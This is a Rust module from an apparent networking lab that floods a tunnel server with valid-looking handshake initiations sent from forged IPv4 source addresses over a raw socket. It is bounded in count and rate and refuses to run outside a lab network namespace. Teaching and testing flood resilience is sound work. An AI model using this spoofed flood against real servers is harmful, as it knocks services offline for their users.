//! A handshake flood, for lab 04: valid-looking step 04 initiations, made
//! with step 04's own code for the server's public key (so their mac1 is
//! right) from a key the server does not list, sent from many forged IPv4
//! source addresses through a raw socket. `tunlab-flood` runs it in the
//! lab's intruder host; it refuses to run outside a lab's network
//! namespace, and its count and rate are bounded.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::{Duration, Instant};

use anyhow::{Context, bail};
use ipnet::Ipv4Net;
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
};
use step04_crypto::PublicKey;
use step04_crypto::entropy::{self, Entropy, OsEntropy};
use step04_crypto::noise::{self, Identity};
use step04_crypto::wire::INITIATION_LEN;

/// The most datagrams one run sends, and the fastest it sends them.
pub const MAX_COUNT: u32 = 200_000;
pub const MAX_RATE: u32 = 50_000;

/// `n` initiations to `server`, each with a fresh ephemeral key and index,
/// from one static key made for the occasion (which no server lists).
pub fn initiations(server: &PublicKey, n: usize) -> anyhow::Result<Vec<Vec<u8>>> {
    let stranger = Identity::new(entropy::generate_key());
    let mut os = OsEntropy;
    let unix_now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap_or_default();
    (0..n)
        .map(|i| {
            let mut m = vec![0u8; INITIATION_LEN];
            let at = noise::tai64n(unix_now + Duration::from_nanos(i as u64));
            noise::initiate(&stranger, server, os.ephemeral(), os.index(), at, &mut m)
                .map_err(|e| anyhow::anyhow!("making an initiation: {e}"))?;
            Ok(m)
        })
        .collect()
}

/// The `i`th of `addresses` source addresses in `sources` (host addresses
/// from the first up, wrapping), with a port of its own.
pub fn source(sources: Ipv4Net, addresses: u32, i: u32) -> SocketAddrV4 {
    let hosts = (1u64 << (32 - sources.prefix_len())).saturating_sub(2).max(1);
    let n = u64::from(i % addresses.max(1)) % hosts;
    let ip = u32::from(sources.network()).wrapping_add(1 + n as u32);
    SocketAddrV4::new(Ipv4Addr::from(ip), 1024 + (n % 60_000) as u16)
}

/// An IPv4 packet carrying `payload` in UDP from `from` to `to`.
pub fn datagram(from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) -> anyhow::Result<Vec<u8>> {
    let builder =
        etherparse::PacketBuilder::ipv4(from.ip().octets(), to.ip().octets(), 64).udp(from.port(), to.port());
    let mut packet = Vec::with_capacity(builder.size(payload.len()));
    builder
        .write(&mut packet, payload)
        .context("building a datagram")?;
    Ok(packet)
}

/// The name of the lab namespace this process runs in (`tl-...`, as
/// `ip netns exec` entered it), if it runs in one: its namespace is the one
/// bind-mounted at `/run/netns/NAME`.
pub fn lab_namespace() -> Option<String> {
    use std::os::unix::fs::MetadataExt;
    let ours = std::fs::metadata("/proc/self/ns/net").ok()?;
    std::fs::read_dir("/run/netns").ok()?.flatten().find_map(|entry| {
        let name = entry.file_name().to_string_lossy().into_owned();
        let meta = std::fs::metadata(entry.path()).ok()?;
        (name.starts_with(crate::netns::PREFIX) && meta.dev() == ours.dev() && meta.ino() == ours.ino())
            .then_some(name)
    })
}

/// What a flood sends.
#[derive(Debug, Clone)]
pub struct Plan {
    pub to: SocketAddrV4,
    pub server: PublicKey,
    pub sources: Ipv4Net,
    /// How many different source addresses, used in turn.
    pub addresses: u32,
    pub count: u32,
    /// Datagrams a second.
    pub rate: u32,
    /// How many different initiations, sent in turn.
    pub messages: usize,
}

/// What a flood did.
#[derive(Debug, Clone, Copy)]
pub struct Sent {
    pub sent: u32,
    /// Datagrams the kernel would not take (its buffers full).
    pub refused: u32,
    pub took: Duration,
}

/// Sends `plan`'s datagrams, paced to its rate.
pub fn send(plan: &Plan) -> anyhow::Result<Sent> {
    if plan.count > MAX_COUNT || plan.rate == 0 || plan.rate > MAX_RATE {
        bail!("at most {MAX_COUNT} datagrams, at 1 to {MAX_RATE} a second");
    }
    if lab_namespace().is_none() {
        bail!(
            "tunlab-flood sends forged datagrams: it runs only inside a lab's network namespace \
             (ip netns exec {}...)",
            crate::netns::PREFIX
        );
    }
    let messages = initiations(&plan.server, plan.messages.max(1))?;
    let raw: OwnedFd = socket(
        AddressFamily::Inet,
        SockType::Raw,
        SockFlag::SOCK_CLOEXEC,
        SockProtocol::Raw,
    )
    .context("opening a raw socket (this needs root)")?;
    let to = SockaddrIn::from(plan.to);
    let start = Instant::now();
    let (mut sent, mut refused) = (0u32, 0u32);
    let per_ms = f64::from(plan.rate) / 1000.0;
    while sent + refused < plan.count {
        // Catch up with the rate, then wait a millisecond.
        let due = ((start.elapsed().as_secs_f64() * 1000.0 * per_ms) as u32 + 1).min(plan.count);
        while sent + refused < due {
            let i = sent + refused;
            let from = source(plan.sources, plan.addresses, i);
            let packet = datagram(from, plan.to, &messages[i as usize % messages.len()])?;
            match sendto(raw.as_raw_fd(), &packet, &to, MsgFlags::empty()) {
                Ok(_) => sent += 1,
                Err(nix::errno::Errno::ENOBUFS | nix::errno::Errno::EAGAIN) => refused += 1,
                Err(e) => return Err(e).context("sending on the raw socket"),
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    Ok(Sent {
        sent,
        refused,
        took: start.elapsed(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sources_walk_the_prefix_and_wrap() {
        let net: Ipv4Net = "198.18.0.0/15".parse().unwrap();
        assert_eq!(source(net, 20_000, 0), "198.18.0.1:1024".parse().unwrap());
        assert_eq!(source(net, 20_000, 255), "198.18.1.0:1279".parse().unwrap());
        assert_eq!(source(net, 20_000, 20_000), source(net, 20_000, 0));
        let small: Ipv4Net = "203.0.113.0/30".parse().unwrap();
        assert_eq!(source(small, 100, 2), source(small, 100, 0), "two hosts in a /30");
    }

    #[test]
    fn the_initiations_are_valid_looking_to_the_server() {
        let server = Identity::new(step04_crypto::StaticSecret::from([2; 32]));
        let messages = initiations(server.public(), 3).unwrap();
        for m in &messages {
            let p = step04_crypto::wire::InitiationPacket::new_checked(&m[..]).unwrap();
            assert!(noise::initiation_mac1_ok(&server, &p), "mac1 right");
            assert!(
                noise::consume_initiation(&server, &p).is_ok(),
                "it opens: a key, unlisted"
            );
        }
        assert_ne!(messages[0], messages[1]);
        let from = source("198.18.0.0/15".parse().unwrap(), 10, 3);
        let packet = datagram(from, "198.51.100.1:51820".parse().unwrap(), &messages[0]).unwrap();
        let ip = etherparse::Ipv4HeaderSlice::from_slice(&packet).unwrap();
        assert_eq!(ip.source_addr(), *from.ip());
        assert_eq!(packet.len(), 20 + 8 + INITIATION_LEN);
    }
}
